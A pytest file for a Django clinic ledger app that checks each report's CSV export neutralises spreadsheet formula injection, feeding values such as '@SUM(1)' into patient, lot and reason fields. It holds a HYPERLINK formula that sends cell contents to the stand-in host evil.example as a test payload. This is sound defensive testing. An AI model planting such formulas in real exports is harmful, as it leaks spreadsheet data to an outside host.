"""Every ledger report's CSV neutralises formula text (OWASP "CSV Injection"; issue 13, defect 6).

Patient names, lot numbers, invoice references, session references and free-text reasons reach the reports; a cell
starting with =, +, -, @, tab or CR must come out prefixed with a single quote, while numbers (a −0.10 mL adjustment)
stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse

from ketaclinic.csv_safe import FORMULA_STARTS
from ketaclinic.ledger import services
from tests.conftest import make_patient, sign_in
from tests.ledger.conftest import receive, sign

pytestmark = pytest.mark.django_db
CHICAGO = ZoneInfo("America/Chicago")
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
PLAIN_NUMBER = r"-?\d+(\.\d+)?"


def at(day: int, hour: int = 10) -> dt.datetime:
    return dt.datetime(2026, 12, day, hour, tzinfo=CHICAGO)


@pytest.fixture
def poisoned(ledger: Any, main_st: Any, reverse_distributor: Any) -> dict[str, Any]:
    nurse, bob, products, supplier = ledger["nurse"], ledger["bob"], ledger["products"], ledger["supplier"]
    victim = make_patient(main_st, given_name="@SUM(1)", family_name=LINK)
    with time_machine.travel(at(1), tick=False) as clock:
        (vial, spare) = receive(
            nurse, main_st, products["k10"], supplier, count=2, lot_number="@SUM(1)", invoice_ref="+1"
        )
        clock.move_to(at(2))
        services.administer(by=nurse, container=vial, patient=victim, quantity_ml="4", session_reference="-1+1")
        clock.move_to(at(3))
        services.waste(
            by=nurse,
            container=vial,
            quantity_ml="0",
            close=True,
            manner="\t=1",  # stored stripped: "=1"
            reason="-1+1",
            witness=sign(bob, nurse, main_st),
        )
        clock.move_to(at(6, 17))
        inventory = services.start_inventory(
            by=nurse, location=main_st, kind="ad_hoc", taken_at=at(6, 17), business_timing="close"
        )
        services.record_counts(
            by=nurse, inventory=inventory, counts={inventory.lines.get().pk: services.Count("19.90")}
        )
        services.finalise_inventory(by=nurse, inventory=inventory)
        services.annotate_discrepancy(
            by=nurse,
            discrepancy=inventory.lines.get().discrepancy,
            annotation="=1+1",
            adjust_books=True,
            witness=sign(bob, nurse, main_st),
        )
        clock.move_to(at(7))
        services.transfer_out(by=nurse, containers=[spare], reverse_distributor=reverse_distributor, reference="@x")
    return {"main": main_st, "inventory": inventory}


def download(client: Any, kind: str, query: str) -> list[list[str]]:
    response = client.get(reverse("ledger:report", kwargs={"kind": kind}) + query + "&format=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def live_formulas(rows: list[list[str]]) -> list[str]:
    return [
        cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not re.fullmatch(PLAIN_NUMBER, cell)
    ]


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("receipts", ["'@SUM(1)", "'+1"]),
        ("administrations", ["'@SUM(1) " + LINK, "'-1+1"]),
        ("disposal", ["'=1", "'-1+1", "'@x"]),
        ("balances", ["'@SUM(1)"]),
        ("inspection", ["'@SUM(1) " + LINK, "'-1+1", "'@SUM(1)"]),
        ("inventory", ["'@SUM(1)"]),
        ("reconciliation", ["'=1+1", "-0.10"]),
    ],
)
def test_every_report_csv_neutralises_formula_text(
    poisoned: dict[str, Any], client: Any, dave: Any, kind: str, expected: list[str]
) -> None:
    sign_in(client, dave)
    query = f"?location={poisoned['main'].pk}&date_from=2026-12-01&date_to=2026-12-09"
    if kind in ("inventory", "reconciliation"):
        query += f"&inventory={poisoned['inventory'].pk}"
    rows = download(client, kind, query)
    assert live_formulas(rows) == []
    cells = [cell for row in rows for cell in row]
    text = "\n".join(cells)
    for value in expected:
        assert value in cells or value in text, value
